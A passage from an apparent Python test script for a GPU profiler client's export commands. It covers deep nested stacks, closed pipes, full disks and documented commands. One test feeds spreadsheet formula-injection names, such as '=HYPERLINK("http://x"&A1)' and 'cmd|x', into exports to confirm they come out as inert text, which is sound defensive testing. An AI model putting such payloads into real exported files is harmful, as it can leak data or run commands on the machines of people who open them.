        check(sorted(n for n in os.listdir(".") if n.startswith("late.csv")) == ["late.csv"], f"left: {os.listdir()}")


def a_stack_as_deep_as_the_file():
    """A million ranges within each other, which no program has: whatever reads them ends, and says what it says."""
    depth = 1_000_000
    path = change(
        "deep.gpuctr", "DELETE FROM site WHERE process = 1",
        ("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) INSERT INTO site"
         " SELECT 1, i, i - 1, '', 'r', '', '', 0, 0, 0, i - 1 FROM n", (depth,)),
        *OWN_LAUNCHES, *NO_SITES, ("UPDATE launch SET site = ? WHERE id = (SELECT max(launch) FROM record)", (depth,)),
        "DELETE FROM mark")
    kept = 4096
    check(b",../" + b"/".join([b"r"] * kept) + b"," in export(path, "--to", "csv"), "csv: the inner ranges are not told")
    lines = export(path, "--to", "jsonl").split(b"\n")
    check(max(line.count(b'"message":"r"') for line in lines) == kept, "jsonl: the inner ranges are not told")
    for form in "chrome", "folded", "pyprof":
        export(path, "--to", form)
    r = subprocess.run([CLIENT, "report", path, "--by", "nvtx"], capture_output=True, timeout=100, check=False)
    check(r.returncode == 0 and b"r" in r.stdout, f"report of a deep stack: {r.returncode} {r.stderr!r}")


def formulas_are_text():
    """A spreadsheet computes what begins like a formula, and programs choose the names."""
    first = "=+-@"
    path = change("formulas.gpuctr",
                  ("UPDATE kernel SET name = substr(?, id % 4 + 1, 1) || 'HYPERLINK(\"http://x\"&A1)', mangled = '@x'", (first,)),
                  ("UPDATE site SET name = substr(?, id % 4 + 1, 1) || 'cmd|x', domain = ''", (first,)))
    for arguments in ["--to", "csv"], ["--to", "pyprof", "--csv", "--columns", "kernel,op,layer,params,tc,seq"]:
        rows = list(csv.reader(export(path, *arguments).decode().splitlines()))
        fields = [f for row in rows for f in row]
        check(not [f for f in fields if len(f) > 1 and f[0] in first + "\t\r"], f"{arguments}: a formula")
        check(sum(f.startswith("'=HYPERLINK") for f in fields) > 0, f"{arguments}: names are gone")


def nobody_reads():
    read, write = os.pipe()
    os.close(read)
    r = subprocess.run([CLIENT, "export", "run.gpuctr", "--to", "chrome"], stdout=write, stderr=subprocess.PIPE,
                       check=False)
    os.close(write)
    check(r.returncode == 0 and r.stderr == b"", f"closed pipe: {r.returncode} {r.stderr!r}")
    with open("/dev/full", "wb") as full:
        r = subprocess.run([CLIENT, "export", "run.gpuctr", "--to", "csv"], stdout=full, stderr=subprocess.PIPE,
                           check=False)
    check(r.returncode == 1 and b"No space left" in r.stderr and b"remedy" in r.stderr, f"disk full: {r}")


def commands_of_the_docs():
    """Every command in a block of docs/coming-from.md does something, and all of its verbs and options exist."""
    text = (SOURCE / "docs/coming-from.md").read_text()
    commands = [c for block in re.findall(r"^```\n(.*?)^```$", text, re.MULTILINE | re.DOTALL) for c in block.splitlines()]
    check(len(commands) >= 10, "the commands are gone")
    path = f"{CLIENT.parent}:{os.environ['PATH']}"
    for command in commands:
        if command.startswith("sqlite3") and not shutil.which("sqlite3"):
            continue
        for output in re.findall(r" (?:-o|--html) (\S+)", command):
            pathlib.Path(output).unlink(missing_ok=True)
        r = subprocess.run(["sh", "-c", command], capture_output=True, timeout=100, check=False,
                           env=dict(os.environ, PATH=path))
        made = [pathlib.Path(o).stat().st_size for o in re.findall(r" (?:-o|--html) (\S+)", command)]
        check(r.returncode == 0 and not r.stderr and (r.stdout or made), f"{command}: {r.stderr!r}")
    help_text = b"".join(subprocess.run([CLIENT, "help", v], capture_output=True, check=False).stdout
                         for v in ("run", "capture", "metrics", "report", "export", "merge")).decode()
    for cell in re.findall(r"`(gpuctr-client [^`]*)`", text):
        for option in re.findall(r" (--[a-z][a-z-]*)", cell.split(" -- ")[0]):
            check(option in help_text, f"{cell}: no option {option}")


def main():
    tests = [commands_of_the_docs, the_recording, worse_captures, kernels_that_overlap, times_before_the_file, samples_are_counters, wild_values,
             hostile_names, several_processes, perfetto_opens_the_chrome_trace, steps_are_one_stack, folded_sums,
             sums_of_turns, lines_of_pyprof, pyprof_of_tensor_cores, layouts_of_pyprof, files, formulas_are_text, what_is_read_is_not_written, a_link_chooses_nothing, a_file_that_comes_meanwhile_stays,
             a_stack_as_deep_as_the_file, nobody_reads]
    return run_tests(tests, RECORDING)


sys.exit(main())
